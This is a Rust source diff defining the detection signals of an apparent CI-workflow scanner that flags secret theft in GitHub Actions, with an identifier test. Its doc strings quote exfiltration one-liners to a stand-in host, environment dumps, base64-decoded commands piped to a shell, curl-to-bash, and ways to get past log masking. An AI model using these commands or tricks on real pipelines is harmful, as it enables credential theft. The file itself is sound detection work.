@@ -1,0 +1,103 @@
+//! Signals: the facts that a verdict is made of, by stable identifiers.
+//!
+//! Each says one thing that can be checked by eye. `portcullis explain ID` prints what stands here.
+
+/// How much a signal says about intent. Two weak ones never add up to a theft.
+#[derive(Clone, Copy, Debug, PartialEq, Eq, PartialOrd, Ord)]
+pub enum Weight {
+    /// Says where something goes, not why.
+    Place,
+    /// Happens to honest people too.
+    Weak,
+    /// More is taken than any use of it needs.
+    Greed,
+    /// Somebody took trouble that it not be seen.
+    Hiding,
+    /// Speaks for an honest purpose.
+    Excuse,
+}
+
+macro_rules! signals {
+    ($($name:ident = $id:literal, $weight:ident, $meaning:literal;)*) => {
+        /// One fact about a finding.
+        #[derive(Clone, Copy, Debug, PartialEq, Eq, PartialOrd, Ord, Hash)]
+        pub enum Signal {
+            $(#[doc = $meaning] $name,)*
+        }
+
+        /// All of them, in the order of the list above.
+        pub const ALL: &[Signal] = &[$(Signal::$name,)*];
+
+        impl Signal {
+            /// The identifier in documents.
+            pub fn id(self) -> &'static str {
+                match self { $(Signal::$name => $id,)* }
+            }
+            /// What it says about intent.
+            pub fn weight(self) -> Weight {
+                match self { $(Signal::$name => Weight::$weight,)* }
+            }
+            /// What it means, with an example.
+            pub fn meaning(self) -> &'static str {
+                match self { $(Signal::$name => $meaning,)* }
+            }
+        }
+    };
+}
+
+signals! {
+    ForeignDestination = "foreign-destination", Place, "The host is written in the file and belongs to no service that is known to need the secret: `curl -d \"$T\" https://collector.example/`.";
+    RawAddress = "raw-address", Weak, "The destination is an IP address: nobody's name stands behind it.";
+    DropBox = "drop-box", Weak, "The destination shows what it got to whoever made it, without an account: request bins, tunnels, pastes.";
+    LookAlike = "look-alike", Hiding, "The name of the receiver is made to be taken for a known one: `upload.pypl.org`, `actions/checkout` under another owner.";
+    PlainHttp = "plain-http", Weak, "The secret travels unencrypted.";
+    ReadableLog = "readable-log", Place, "The secret reaches the job's log in a form that the runner's mask does not cover; who can read the log can read the secret.";
+    MaskedLog = "masked-log", Weak, "The secret is printed, but in a form that the runner masks: `echo \"$TOKEN\"`.";
+    Downloadable = "downloadable", Place, "The secret lies in an artifact, a cache, a comment or a repository, from where it can be fetched.";
+    UnrelatedSecrets = "unrelated-secrets", Greed, "A secret whose name or use says what it opens goes to a place that is not that: a PyPI token to a host that is not PyPI's; or secrets that have nothing to do with each other go together.";
+    AllSecrets = "all-secrets", Greed, "The whole `secrets` context leaves: `toJSON(secrets)`.";
+    ManySecrets = "many-secrets", Weak, "Three secrets or more leave together.";
+    LabelledSecrets = "labelled-secrets", Greed, "The names of several secrets are sent along with their values: `A=${{ secrets.A }}&B=${{ secrets.B }}`. Who uses a credential knows its name; who collects them needs it.";
+    EnvironmentDump = "environment-dump", Greed, "The whole environment leaves, with the secrets in it: `env | curl -d @- …`.";
+    RunnerCredentials = "runner-credentials", Greed, "Credentials that the runner keeps for itself leave: OIDC request tokens, the checkout's token, files in the home directory.";
+    MemoryRead = "memory-read", Hiding, "The memory of the runner's process is read, where every secret stands unmasked.";
+    Encoded = "encoded", Weak, "The secret is encoded once before it leaves.";
+    MaskEvasion = "mask-evasion", Hiding, "The secret is changed in a way whose only use is to get past the runner's mask: reversed, spaced out, split, encoded twice.";
+    DecodedCommand = "decoded-command", Hiding, "The command that sends stood encoded in the file and is decoded to run: `echo Y3Vyb… | base64 -d | sh`.";
+    AssembledCommand = "assembled-command", Hiding, "The command or the address is put together from pieces that say nothing alone.";
+    SinglePurpose = "single-purpose", Weak, "The job does nothing else: no checkout of use, no build, no test, only sending.";
+    Masquerade = "masquerade", Weak, "The workflow's name or path says security, check or cache, and it sends secrets.";
+    SingleFileCommit = "single-file-commit", Weak, "The commit that brought it changed nothing else.";
+    HarvestedNames = "harvested-names", Greed, "The names of the secrets are those that other workflows of the repository use for different things.";
+    AuthenticatesElsewhere = "established-destination", Excuse, "Another version of the repository's workflows, standing for 30 days or more, authenticates to this host with the same credential.";
+    ConfiguredDestination = "configured-destination", Excuse, "The destination is a secret or variable of the repository: its owner chose it.";
+    BelongsThere = "belongs-there", Excuse, "The place is the service that the secret opens.";
+    ConsumedThere = "consumed-there", Excuse, "The service takes the value as a setting of the owner's own: `gh secret set`.";
+    CoversTracks = "covers-tracks", Hiding, "The run, branch or file is deleted afterwards.";
+    RemoteCode = "remote-code", Weak, "Code from an address is run without a check of what it is: `curl … | bash`.";
+    ReverseShell = "reverse-shell", Hiding, "A shell is connected to an address.";
+    UntrustedCode = "untrusted-code", Place, "Code of a pull request runs where secrets are.";
+    UntrustedText = "untrusted-text", Place, "Text that outsiders write is pasted into a script.";
+    MutableReference = "mutable-reference", Weak, "The action is named by a tag or branch, which its owner can move.";
+    UnknownOwner = "unknown-owner", Weak, "The owner of the action is none of those that everybody uses, and not the repository's own.";
+    LongLivedToken = "long-lived-token", Weak, "A package is published with a token that lives until somebody revokes it, where Trusted Publishing would do.";
+    Unanalysed = "unanalysed", Weak, "The file could not be analysed; a coarse search stands in for it.";
+    CouldNotRun = "could-not-run", Excuse, "GitHub would refuse to run this file as it is.";
+    DateConflict = "date-conflict", Weak, "Author's and committer's time, or two sources of a time, differ by more than 24 hours.";
+    WritesWorkflow = "writes-workflow", Hiding, "A workflow writes a workflow.";
+    RegistersRunner = "registers-runner", Hiding, "A workflow registers a runner.";
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn identifiers_are_unique_and_kebab_case() {
+        let mut ids: Vec<_> = ALL.iter().map(|signal| signal.id()).collect();
+        assert!(ids.iter().all(|id| id.chars().all(|c| c.is_ascii_lowercase() || c == '-')));
+        ids.sort_unstable();
+        ids.dedup();
+        assert_eq!(ids.len(), ALL.len());
+    }
+}
